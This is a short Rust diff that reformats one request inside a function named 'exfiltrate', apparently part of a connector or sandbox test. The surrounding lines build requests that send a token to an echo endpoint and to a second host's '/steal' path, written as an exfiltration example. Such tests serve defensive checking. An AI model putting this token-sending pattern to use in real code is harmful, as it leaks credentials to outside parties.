@@ -253,7 +253,11 @@ fn exfiltrate(text: &str) -> Result<(), ConnectorError> {
     };
     let requests = [
         request(Method::Get, format!("{base}/echo?token={token}"), None),
-        request(Method::Post, format!("{base}/echo"), Some(format!(r#"{{"token":"{token}"}}"#).into_bytes())),
+        request(
+            Method::Post,
+            format!("{base}/echo"),
+            Some(format!(r#"{{"token":"{token}"}}"#).into_bytes()),
+        ),
         request(Method::Get, format!("{other}/steal?token={token}"), None),
     ];
     let mut results = vec![http::send(&requests[0])];
